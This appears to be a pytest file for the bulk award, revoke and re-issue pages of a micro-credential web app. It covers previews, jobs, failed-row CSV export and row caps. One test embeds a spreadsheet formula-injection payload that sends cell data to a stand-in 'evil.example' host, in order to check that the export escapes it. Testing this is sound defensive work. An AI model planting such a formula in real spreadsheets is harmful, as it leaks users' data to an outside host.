"""The bulk pages: templates, a preview listing every bad row that issues nothing, confirmation
running the job, failed rows back as CSV, re-upload issuing nothing twice, bulk revoke and
bulk re-issue with a reason."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from gradebooks import gradebook_csv
from web_world import (
    REGISTRAR_A,
    A,
    World,
    award_count,
    count_in,
    csrf_of,
    make_world,
    signed_in,
    wait_for_job,
)

from hostile_tables import tiny_rows_csv
from microcred.services.award_input import LearnerInput
from microcred.services.bulk.gradebook import read_gradebook
from microcred.services.recipients import recipients
from microcred.services.status import StatusLists
from microcred.store.jobs_tables import JobUploadRow

BAD = {
    2: ("email", "", "e-mail"),
    5: ("grade", "A+", "unknown grade"),
    7: ("email", "learner0001@example.org", "duplicate learner"),
}


@pytest.fixture(autouse=True)
def kek(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MICROCRED_KEK", "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=")


@pytest.fixture
def world(tmp_path: Path) -> World:
    return make_world(tmp_path / "bulk.db")


@pytest.fixture
def registrar(world: World) -> Iterator[TestClient]:
    client = signed_in(world.app, REGISTRAR_A)
    yield client
    client.__exit__(None, None, None)


def _grades(count: int, bad: dict[int, tuple[str, str, str]]) -> bytes:
    """Return our gradebook CSV with the A–E grades of this specification."""
    text = gradebook_csv(count, bad).decode("utf-8")
    for number, grade in (("1.0", "A"), ("1.7", "B"), ("2.3", "C"), ("3.0", "D"), ("4.0", "E")):
        text = text.replace(f",{number},", f",{grade},")
    return text.encode("utf-8")


def _upload(
    client: TestClient, spec_id: str, data: bytes, kind: str = "bulk-award", reason: str = ""
) -> str:
    token = csrf_of(client, f"/specifications/{spec_id}/bulk")
    response = client.post(
        f"/specifications/{spec_id}/bulk",
        data={"csrf_token": token, "kind": kind, "reason": reason, "awarded_on": "2025-03-01"},
        files={"file": ("grades.csv", data, "text/csv")},
    )
    assert response.status_code == 200, response.text
    return response.text


def _confirm(client: TestClient, preview: str) -> str:
    action = re.search(r'<form method="post" action="(/specifications/[^"]+/bulk/[^"]+)"', preview)
    token = re.search(r'name="csrf_token" value="([^"]+)"', preview)
    assert action and token, "the preview has no confirm form"
    response = client.post(
        action.group(1), data={"csrf_token": token.group(1)}, follow_redirects=False
    )
    assert response.status_code == 303, response.text
    return str(response.headers["location"])


def test_templates_download_as_csv_and_xlsx_with_the_template_columns(
    world: World, registrar: TestClient
) -> None:
    for name in ("template.csv", "template.xlsx"):
        response = registrar.get(f"/specifications/{world.spec_a}/bulk/{name}")
        assert response.status_code == 200
        book = read_gradebook(response.content, name)
        assert book.columns[:3] == ["name", "email", "institutional_id"]
        assert book.rows[0][1]["grade"] == "A"  # the first grade of this scheme


def test_preview_lists_every_bad_row_with_its_reason_and_issues_nothing(
    world: World, registrar: TestClient
) -> None:
    preview = _upload(registrar, world.spec_a, _grades(20, BAD))
    assert "17 rows are ready." in preview
    assert "3 rows have problems" in preview
    rows = re.findall(
        r'<tr><td data-label="Row">(\d+)</td><td[^>]*>[^<]*</td><td[^>]*>([^<]*)</td></tr>', preview
    )
    assert [int(row) for row, _ in rows] == [index + 2 for index in sorted(BAD)]
    for (_, reason), index in zip(rows, sorted(BAD), strict=True):
        assert BAD[index][2] in reason.replace("&#39;", "'")
    assert award_count(world.app) == 0


def test_confirm_runs_the_job_and_its_failed_rows_come_back_as_csv(
    world: World, registrar: TestClient
) -> None:
    job_path = _confirm(registrar, _upload(registrar, world.spec_a, _grades(20, BAD)))
    page = registrar.get(job_path)
    assert page.status_code == 200 and "<progress" in page.text
    result = wait_for_job(registrar, job_path)
    assert (count_in(result, "done"), count_in(result, "failed")) == (17, 3)
    assert count_in(result, "remaining") == 0
    assert "hx-trigger" not in result  # a finished job is not polled any more
    assert award_count(world.app) == 17

    failed = registrar.get(f"{job_path}/failed.csv")
    rows = list(csv.DictReader(io.StringIO(failed.content.decode("utf-8-sig"))))
    assert [row["name"] for row in rows] == [f"Learner {index:04d}" for index in sorted(BAD)]
    assert "unknown grade" in rows[1]["problem"]
    _the_jobs_recipients_can_be_searched_filtered_and_exported(world, registrar, job_path)


def _the_jobs_recipients_can_be_searched_filtered_and_exported(
    world: World, registrar: TestClient, job_path: str
) -> None:
    """The job's recipients list (on the finished job of the test above: no second job run)."""
    listed = f"{job_path}/recipients"
    assert "17 of 17 recipients shown." in registrar.get(listed).text
    by_mail = registrar.get(listed, params={"q": "LEARNER0003@example"}).text
    assert "1 of 17 recipients shown." in by_mail and "Learner 0003" in by_mail
    assert "Learner 0004" not in by_mail
    by_name = registrar.get(listed, params={"q": "learner 001"}).text  # 0010 … 0019
    assert "10 of 17 recipients shown." in by_name
    [third] = [
        r
        for r in recipients(world.app.state.awards, A, job_id=job_path.rsplit("/", 1)[1])
        if r.award.learner_name == "Learner 0003"
    ]
    world.app.state.awards.issuer.status.revoke(
        third.award.credential_id, reason="issued in error", actor="registrar"
    )
    revoked = registrar.get(listed, params={"status": "revoked"}).text
    assert "1 of 17 recipients shown." in revoked and "Learner 0003" in revoked
    exported = registrar.get(f"{listed}.csv", params={"status": "revoked"})
    assert exported.headers["content-type"].startswith("text/csv")
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert (row["name"], row["status"]) == ("Learner 0003", "revoked")
    assert len(list(csv.DictReader(io.StringIO(registrar.get(f"{listed}.csv").text)))) == 17


def test_the_same_file_again_shows_already_issued_and_issues_nothing_twice(
    world: World, registrar: TestClient
) -> None:
    data = _grades(12, {})
    wait_for_job(registrar, _confirm(registrar, _upload(registrar, world.spec_a, data)))
    again = _upload(registrar, world.spec_a, data)
    assert "Already issued: 12." in again
    result = wait_for_job(registrar, _confirm(registrar, again))
    assert (count_in(result, "done"), count_in(result, "unchanged")) == (0, 12)
    assert award_count(world.app) == 12


def test_a_confirmed_upload_cannot_be_confirmed_twice(world: World, registrar: TestClient) -> None:
    preview = _upload(registrar, world.spec_a, _grades(3, {}))
    wait_for_job(registrar, _confirm(registrar, preview))
    action = re.search(r'action="(/specifications/[^"]+/bulk/[^"]+)"', preview)
    token = csrf_of(registrar, f"/specifications/{world.spec_a}/bulk")
    assert action
    again = registrar.post(action.group(1), data={"csrf_token": token})
    assert again.status_code == 404
    assert award_count(world.app) == 3


def test_bulk_revoke_by_a_list_of_learners_revokes_only_this_specifications_credentials(
    world: World, registrar: TestClient
) -> None:
    wait_for_job(registrar, _confirm(registrar, _upload(registrar, world.spec_a, _grades(6, {}))))
    listing = b"email\nlearner0001@example.org\nlearner0004@example.org\nnobody@example.org\n"
    preview = _upload(
        registrar, world.spec_a, listing, kind="bulk-revoke", reason="awarded in error"
    )
    assert "2 rows are ready." in preview and "1 row has a problem" in preview
    result = wait_for_job(registrar, _confirm(registrar, preview))
    assert (count_in(result, "done"), count_in(result, "failed")) == (2, 1)
    status: StatusLists = world.app.state.awards.issuer.status
    states = {
        award.learner_email: status.status_of(award.credential_id).state
        for award in world.app.state.awards.list(A, world.spec_a)
    }
    assert states["learner0001@example.org"] == "revoked"
    assert states["learner0004@example.org"] == "revoked"
    assert list(states.values()).count("valid") == 4


def test_revoke_needs_a_reason_and_a_credential_of_another_specification_is_refused(
    world: World, registrar: TestClient
) -> None:
    token = csrf_of(registrar, f"/specifications/{world.spec_a}/bulk")
    no_reason = registrar.post(
        f"/specifications/{world.spec_a}/bulk",
        data={"csrf_token": token, "kind": "bulk-revoke", "reason": ""},
        files={"file": ("ids.csv", b"credential_id\nurn:uuid:x\n", "text/csv")},
    )
    assert no_reason.status_code == 422 and 'id="reason-errors"' in no_reason.text
    awards = world.app.state.awards
    other = awards.award(world.spec_b, None, LearnerInput(name="Ola", email="ola@example.org"))
    preview = _upload(
        registrar,
        world.spec_a,
        f"credential_id\n{other.credential_id}\n".encode(),
        kind="bulk-revoke",
        reason="not ours",
    )
    assert "no credential of this specification" in preview
    assert 'data-testid="confirm"' not in preview
    assert awards.issuer.status.status_of(other.credential_id).state == "valid"


def test_revoking_a_jobs_credentials_revokes_each_with_the_reason(
    world: World, registrar: TestClient
) -> None:
    job_path = _confirm(registrar, _upload(registrar, world.spec_a, _grades(4, {})))
    result = wait_for_job(registrar, job_path)
    token = re.search(r'name="csrf_token" value="([^"]+)"', registrar.get(job_path).text)
    assert token and "Revoke all credentials of this job" in result
    refused = registrar.post(f"{job_path}/revoke", data={"csrf_token": token.group(1)})
    assert refused.status_code == 422
    revoking = registrar.post(
        f"{job_path}/revoke",
        data={"csrf_token": token.group(1), "reason": "course cancelled"},
        follow_redirects=False,
    )
    assert revoking.status_code == 303
    done = wait_for_job(registrar, revoking.headers["location"])
    assert count_in(done, "done") == 4
    awards = world.app.state.awards
    for award in awards.list(A, world.spec_a):
        status = awards.issuer.status.status_of(award.credential_id)
        assert status.state == "revoked"


def test_bulk_reissue_replaces_each_corrected_award_and_revokes_the_old_one(
    world: World, registrar: TestClient
) -> None:
    wait_for_job(registrar, _confirm(registrar, _upload(registrar, world.spec_a, _grades(3, {}))))
    awards = world.app.state.awards
    before = {a.learner_email: a for a in awards.list(A, world.spec_a)}
    corrected = _grades(3, {1: ("grade", "A", "")})
    preview = _upload(
        registrar, world.spec_a, corrected, kind="bulk-reissue", reason="grade corrected"
    )
    result = wait_for_job(registrar, _confirm(registrar, preview))
    assert count_in(result, "done") == 3
    old = before["learner0001@example.org"]
    new = awards.get(awards.get(old.id).replaced_by)
    assert (new.grade, new.attempt) == ("A", 2)
    assert awards.issuer.status.status_of(old.credential_id).state == "revoked"
    assert awards.issuer.status.status_of(new.credential_id).state == "valid"
    assert award_count(world.app) == 6


def test_failed_rows_csv_never_carries_a_formula(world: World, registrar: TestClient) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    bad = {3: ("grade", formula, "unknown grade")}
    job_path = _confirm(registrar, _upload(registrar, world.spec_a, _grades(6, bad)))
    wait_for_job(registrar, job_path)
    failed = registrar.get(f"{job_path}/failed.csv").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(failed)))
    assert row["grade"] == "'" + formula
    # Corrected and uploaded again, our own export reads back as what the registrar typed.
    assert read_gradebook(failed.encode("utf-8"), "failed.csv").rows[0][1]["grade"] == formula


def _kept_uploads(world: World) -> int:
    with world.app.state.database.transaction(write=False) as session:
        return int(session.scalar(sa.select(sa.func.count(JobUploadRow.id))) or 0)


def test_a_gradebook_past_the_row_cap_is_refused_with_413_and_nothing_kept(
    world: World, registrar: TestClient
) -> None:
    data = b"".join(tiny_rows_csv(1_000_000))  # 2 MB: within the upload size, past the rows
    token = csrf_of(registrar, f"/specifications/{world.spec_a}/bulk")
    refused = registrar.post(
        f"/specifications/{world.spec_a}/bulk",
        data={"csrf_token": token, "kind": "bulk-award", "reason": "", "awarded_on": ""},
        files={"file": ("grades.csv", data, "text/csv")},
    )
    assert refused.status_code == 413
    assert "text/html" in refused.headers["content-type"]
    assert "more than 100,000 rows" in refused.text
    assert (_kept_uploads(world), award_count(world.app)) == (0, 0)
